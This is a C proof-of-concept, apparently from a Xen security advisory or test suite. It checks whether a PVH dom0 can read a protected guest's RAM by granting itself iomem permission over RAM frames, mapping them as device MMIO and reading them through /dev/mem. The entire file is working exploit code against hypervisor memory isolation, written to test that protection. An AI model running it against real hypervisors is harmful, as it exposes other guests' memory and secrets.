/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: a guest's memory as MMIO (PVH dom0)
 *
 * Claim: dom0 cannot have a protected guest's RAM by calling it a device's.
 *
 * Method: dom0 gives itself permission for machine frames of RAM and has them
 * mapped into its own physical address space as a device's registers
 * (XEN_DOMCTL_iomem_permission, XEN_DOMCTL_memory_mapping), at guest frames
 * that it does not use; then it reads them by way of /dev/mem.  Nothing in
 * stock Xen asks whether the frames are a device's.  A frame of each 2 MiB is
 * tried: each costs flushes of the IOMMU.
 *
 * Stock Xen: maps all RAM, whoever owns it; all lines are found.
 *
 *   iomap FIRST,LAST[,FIRST,LAST...]    machine frames
 */

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
#include <xenctrl.h>

#include "lines.h"

#define FRAME  4096UL
#define STRIDE 512UL                    /* frames */
#define WINDOW (64UL << 30)             /* where there is nothing */

static unsigned long lines, pages, tried;

static void look(int mem)
{
    void *memory = mmap(NULL, FRAME, PROT_READ, MAP_SHARED, mem, WINDOW);

    if ( memory == MAP_FAILED )
    {
        perror("/dev/mem");
        exit(1);
    }
    lines += lines_in(memory, FRAME);
    pages++;
    munmap(memory, FRAME);
}

static void try_frame(xc_interface *xch, int mem, unsigned long mfn)
{
    tried++;
    if ( xc_domain_iomem_permission(xch, 0, mfn, 1, 1) )
        return;
    if ( xc_domain_memory_mapping(xch, 0, WINDOW / FRAME, mfn, 1, 1) )
        return;
    look(mem);
    xc_domain_memory_mapping(xch, 0, WINDOW / FRAME, mfn, 1, 0);
}

static void try_range(xc_interface *xch, int mem, unsigned long mfn,
                      unsigned long last)
{
    for ( ; mfn <= last; mfn += STRIDE )
        try_frame(xch, mem, mfn);
}

int main(int argc, char *argv[])
{
    xc_interface *xch = xc_interface_open(NULL, NULL, 0);
    int mem = open("/dev/mem", O_RDONLY | O_SYNC);
    char *first, *last;

    if ( argc != 2 || !xch || mem < 0 )
    {
        fprintf(stderr, "iomap: usage, or no Xen, or no /dev/mem\n");
        return 1;
    }
    for ( first = strtok(argv[1], ","); first; first = strtok(NULL, ",") )
    {
        last = strtok(NULL, ",");
        if ( last )
            try_range(xch, mem, strtoul(first, NULL, 0),
                      strtoul(last, NULL, 0));
    }
    printf("iomap: lines %lu pages %lu tried %lu\n", lines, pages, tried);
    return 0;
}
